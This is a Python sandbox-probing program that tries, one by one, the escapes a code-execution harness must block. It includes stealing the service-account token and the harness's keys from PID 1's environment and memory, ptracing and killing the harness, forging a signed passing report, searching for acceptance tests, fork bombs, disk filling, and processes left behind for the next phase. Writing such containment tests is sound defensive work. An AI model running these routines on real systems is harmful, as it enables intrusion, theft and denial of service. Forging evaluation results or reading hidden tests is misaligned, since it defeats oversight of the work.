"""A program that tries everything a sandbox must keep it from.

Each argument names an attack, some with an address or an amount (`registry@192.0.2.1:5000`). Each answers with one line, `NAME: through: WHAT`
or `NAME: kept out: WHY`. Attacks that end whatever runs them have a run of their own. Each gives up by itself at a bound, so that none of them
harms a machine where nothing keeps it out.
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import hmac
import json
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import time
import zlib
from base64 import b64encode
from concurrent.futures import ThreadPoolExecutor

MIB = 1 << 20
SCRATCH = ("/tmp", "/sandbox", "/var/outputs", "/dev/shm")
JOB = "/job/job.json"


PATIENCE = 10
"""Seconds that an answer over the network may take."""


class KeptOut(Exception):
    """An attack did not get through."""


# The network.


def connect(address: str) -> str:
    """Open a TCP connection: something answers."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host.strip("[]"), int(port)), PATIENCE):
        return f"{address} answers"


def api_server(address: str) -> str:
    return connect(address)


def metadata(address: str) -> str:
    return connect(address)


def sibling(address: str) -> str:
    return connect(address)


def registry(address: str) -> str:
    return connect(address)


def kubelet(address: str) -> str:
    return connect(address)


def name_server(address: str) -> str:
    """Ask for the API server's address, without the resolver that the Pod was given."""
    host, _, port = address.rpartition(":")
    labels = b"".join(bytes([len(label)]) + label for label in (b"kubernetes", b"default", b"svc", b"cluster", b"local"))
    question = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(PATIENCE / 10)
        # A datagram may be lost on a node that has much to do.
        for _ in range(10):
            asking.sendto(question, (host.strip("[]"), int(port)))
            with contextlib.suppress(TimeoutError):
                return f"{len(asking.recv(512))} bytes of an answer"
    raise TimeoutError("no answer")


# The node, and rights on it.


def token() -> str:
    """The account that a Pod has unless it says otherwise."""
    with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as file:
        return f"a token of {len(file.read())} characters"


def processes_of_the_node() -> str:
    """See what else runs on the node."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as file:
                if file.read().strip() == "kubelet":
                    return f"the kubelet is process {pid}"
        except OSError:
            pass
    raise KeptOut("no process of the node is in sight")


def files_of_the_node() -> str:
    """Find a folder of the node, wherever it is mounted."""
    with open("/proc/self/mountinfo") as mounts:
        places = [line.split()[4] for line in mounts]
    for place in [*places, *(f"/proc/{pid}/root" for pid in os.listdir("/proc") if pid.isdigit())]:
        if os.path.isdir(f"{place}/var/lib/kubelet"):
            return f"the node's folders lie at {place}"
    raise KeptOut("no folder of the node is mounted")


def become_root() -> str:
    """Run a program that the image lets anybody run as root."""
    for program in ("/usr/bin/su", "/bin/su", "/usr/bin/passwd", "/usr/bin/mount"):
        if not os.path.exists(program) or not os.stat(program).st_mode & 0o4000:
            continue
        # A terminal that nobody answers on keeps it alive.
        terminal, theirs = os.openpty()
        with subprocess.Popen([program], stdin=theirs, stdout=theirs, stderr=theirs, start_new_session=True) as child:
            until = time.monotonic() + 2
            try:
                while time.monotonic() < until and child.poll() is None:
                    with open(f"/proc/{child.pid}/status") as status:
                        if re.search(r"^Uid:\t\d+\t0\t", status.read(), re.MULTILINE):
                            return f"{program} runs as root"
            finally:
                os.close(terminal)
                child.kill()
        raise KeptOut(f"{program} does not run as root")
    raise AssertionError("the image has no program that runs as root")


def change_the_system() -> str:
    """Put something where other programs look for theirs."""
    for folder in ("/usr/lib/python3/dist-packages", "/usr/bin", "/etc", "/", "/harness", "/job"):
        try:
            with open(f"{folder}/planted", "w"):
                return f"{folder} can be written"
        except OSError:
            pass
    raise KeptOut("no folder of the system can be written")


def mount() -> str:
    """Become root of a namespace of its own, and mount something there."""
    libc = ctypes.CDLL(None, use_errno=True)
    new_user, new_mounts = 0x10000000, 0x00020000
    if libc.unshare(new_user | new_mounts) != 0 or libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        raise KeptOut(os.strerror(ctypes.get_errno()))
    return "a file system of its own lies on /tmp"


# The harness: the first process.


def environment_of_the_harness() -> str:
    return f"the key has {len(stolen_key())} characters"


def stolen_key() -> str:
    with open("/proc/1/environ", "rb") as file:
        found = re.search(rb"CODEGEN_NONCE=(\w+)", file.read())
    if not found:
        raise KeptOut("there is no key")
    return found[1].decode()


def key_of_the_job() -> str:
    """Decrypt the job with the key that the harness was started with."""
    with open("/proc/1/environ", "rb") as file:
        found = re.search(rb"CODEGEN_JOB_KEY=(\w+)", file.read())
    if not found:
        raise KeptOut("there is no key")
    with open(JOB, "rb") as file:
        job = decrypted(file.read(), found[1])
    if not job.startswith(b'{"phases"'):
        raise KeptOut("the key is another one")
    return f"the job has {len(job)} bytes"


def decrypted(text: bytes, key: bytes) -> bytes:
    """The job as its harness reads it."""
    stream = hashlib.shake_256(bytes.fromhex(key.decode())).digest(len(text))
    return bytes(one ^ other for one, other in zip(text, stream))


def memory_of_the_harness() -> str:
    """Search the harness's memory for its job, which it has read, and for its key."""
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", 0) as memory:
        for line in maps:
            found = re.match(r"(\w+)-(\w+) rw.*(\[heap\]|\[stack\]| 0 *$)", line)
            if not found:
                continue
            begin, end = (int(number, 16) for number in found.groups()[:2])
            memory.seek(begin)
            if b"CODEGEN_NONCE=" in memory.read(end - begin):
                return f"the key lies at {line.split()[0]}"
    raise KeptOut("the key is nowhere in its memory")


def trace_the_harness() -> str:
    seize = 0x4206
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(seize, 1, None, None) != 0:
        raise KeptOut(os.strerror(ctypes.get_errno()))
    return "the harness has a debugger"


def streams_of_the_harness() -> str:
    with open("/proc/1/fd/1", "w") as log:
        log.write("written by the program\n")
    return "the harness's log takes words of the program"


def end_the_harness() -> str:
    """Every signal. Whether this got through, the report says by not being there."""
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL, signal.SIGSEGV, signal.SIGCHLD, signal.SIGALRM):
        os.kill(1, number)
    # An interpreter handles a signal at its next instruction, and takes its children with it.
    time.sleep(1)
    raise KeptOut("it lives on")


def link_to_the_harness() -> str:
    """An output that is a link to what only the harness can read. Whether this got through, the report says."""
    os.symlink("/proc/self/environ", "/var/outputs/result")
    raise KeptOut("the report says")


def report_of_its_own() -> str:
    """Say, in the harness's place, that the run passed, and end the harness before it says otherwise."""
    try:
        key = stolen_key()
    except OSError:
        key = "00" * 32
    report = {
        "phases": [
            {"name": "rehearsal", "end": {"exited": 0}, "seconds": 0.1, "stdout": "forged\n", "stderr": "", "tests": None, "outputs": []},
        ],
        "seconds": 0.1,
    }
    text = json.dumps(report).encode()
    lines = f"forged {b64encode(zlib.compress(text)).decode()}\n"
    about = {"marker": "forged", "lines": 1, "length": len(text), "sha256": hashlib.sha256(text).hexdigest()}
    body = json.dumps({"report": about})
    try:
        with open("/proc/1/fd/1", "w") as log:
            log.write(lines)
    except OSError:
        print(lines)
    with open("/dev/termination-log", "w") as message:
        message.write(f"{hmac.digest(bytes.fromhex(key), body.encode(), 'sha256').hex()}\n{body}")
    os.kill(1, signal.SIGINT)
    time.sleep(1)
    raise KeptOut("the harness lives on, and reports")


# Limits.


def fork_bomb(most: str) -> str:
    """Processes that do nothing but be there."""
    made = 0
    while made < int(most):
        try:
            if os.fork() == 0:
                signal.pause()
            made += 1
        except OSError:
            time.sleep(0.01)
    return f"{made} processes"


def memory(mib: str) -> str:
    taken = [bytearray(os.urandom(4096) * 256) for _ in range(int(mib))]
    return f"{len(taken)} MiB are taken"


def full_disk(mib: str) -> str:
    """Fill every folder that can be written, in files that are small enough."""
    left = int(mib)
    block = b"x" * MIB
    for folder in SCRATCH:
        for number in range(left // 16):
            try:
                with open(f"{folder}/filled-{number}", "wb") as file:
                    for _ in range(16):
                        file.write(block)
            except OSError:
                break
            left -= 16
        if left <= 0:
            return f"{mib} MiB are written"
    raise KeptOut(f"{left} of {mib} MiB are left")


def large_file(mib: str) -> str:
    return fill("/tmp/large", int(mib))


def disk_of_the_node(mib: str) -> str:
    """The only file on the node's disk that a program can write: the one of the container's last words."""
    return fill("/dev/termination-log", int(mib))


def fill(path: str, mib: int) -> str:
    with open(path, "wb", 0) as file:
        for _ in range(mib):
            file.write(b"x" * MIB)
    return f"{path} has {os.stat(path).st_size // MIB} MiB"


def output(mib: str) -> str:
    """What comes of it, the report says."""
    line = b"x" * 1023 + b"\n"
    for _ in range(int(mib)):
        os.write(1, line * 1024)
    raise KeptOut("all of it is said")


def no_end(seconds: str) -> str:
    time.sleep(float(seconds))
    return f"it still runs after {seconds} s"


# From one phase to the next.


def stay() -> str:
    """Leave a process behind that belongs to no session and holds no stream; `stayed` looks for it."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 1024)
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            time.sleep(30)
        os._exit(0)
    os.wait()
    raise KeptOut("the next phase says")


def stayed() -> str:
    """Any process but the harness and this one."""
    others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, os.getpid())]
    if not others:
        raise KeptOut("nothing of the phase before runs")
    return f"process {others[0]} of the phase before still runs"


def leave_files() -> str:
    """Leave files behind, in folders that are hard to clear; `left_files` looks for them."""
    for folder in SCRATCH:
        os.makedirs(f"{folder}/left/deep", exist_ok=True)
        with open(f"{folder}/left/deep/file", "w"):
            os.chmod(f"{folder}/left/deep", 0)
    raise KeptOut("the next phase says")


def left_files() -> str:
    found = [folder for folder in SCRATCH if os.path.exists(f"{folder}/left")]
    if not found:
        raise KeptOut("every folder is new")
    return f"{', '.join(found)} is as the phase before left it"


def leave_last_words() -> str:
    """Leave a word in the file of the container's last words; `left_last_words` looks for it."""
    with open("/dev/termination-log", "w") as file:
        file.write("left")
    raise KeptOut("the next phase says")


def left_last_words() -> str:
    with open("/dev/termination-log") as file:
        if not (words := file.read()):
            raise KeptOut("nothing is left")
    return f"the phase before left {words!r}"


KEY = 7
CREATE = 0o1000


def leave_shared_memory() -> str:
    """Leave a segment that outlives its process; `left_shared_memory` looks for it."""
    if ctypes.CDLL(None, use_errno=True).shmget(KEY, MIB, CREATE | 0o600) < 0:
        raise KeptOut(os.strerror(ctypes.get_errno()))
    raise KeptOut("the next phase says")


def left_shared_memory() -> str:
    if ctypes.CDLL(None, use_errno=True).shmget(KEY, MIB, 0o600) < 0:
        raise KeptOut(os.strerror(ctypes.get_errno()))
    return "the segment of the phase before is there"


def leave_queue() -> str:
    """Leave a queue that outlives its process; `left_queue` looks for it."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mq_open(b"/left", os.O_RDWR | os.O_CREAT, 0o600, None) < 0:
        raise KeptOut(os.strerror(ctypes.get_errno()))
    raise KeptOut("the next phase says")


def left_queue() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mq_open(b"/left", os.O_RDWR) < 0:
        raise KeptOut(os.strerror(ctypes.get_errno()))
    return "the queue of the phase before is there"


# The tests.


def acceptance_tests(word: str) -> str:
    """Look for a word of the acceptance tests in everything that can be read."""
    return find(word)


def other_cases(word: str) -> str:
    """Look for a word of another case's input in everything that can be read."""
    return find(word)


def find(word: str) -> str:
    """Where a word stands, in files as they are and in the job as every key that lies in one of them decrypts it."""
    # So that neither this file nor the job finds it here.
    wanted = word[::-1].encode()
    with open(JOB, "rb") as file:
        job = file.read()
    for top in (*SCRATCH, "/job", "/harness", "/var/inputs", "/etc", "/home", "/root", "/run", "/mnt", "/opt", "/srv"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as file:
                        content = file.read()
                except OSError:
                    continue
                if wanted in content:
                    return f"{path} has it"
                if re.fullmatch(rb"[0-9a-f]{64}", content) and wanted in decrypted(job, content):
                    return f"the key in {path} decrypts it"
    raise KeptOut("it is nowhere")


def main() -> None:
    if len(sys.argv) == 2:
        print(answer(sys.argv[1]))
        return
    # Whoever is kept out waits.
    with ThreadPoolExecutor() as pool:
        print("\n".join(pool.map(answer, sys.argv[1:])))


def answer(argument: str) -> str:
    name, at, detail = argument.partition("@")
    try:
        return f"{name}: through: {globals()[name](*([detail] if at else []))}"
    except (KeptOut, OSError) as why:
        return f"{name}: kept out: {why}"


if __name__ == "__main__":
    main()
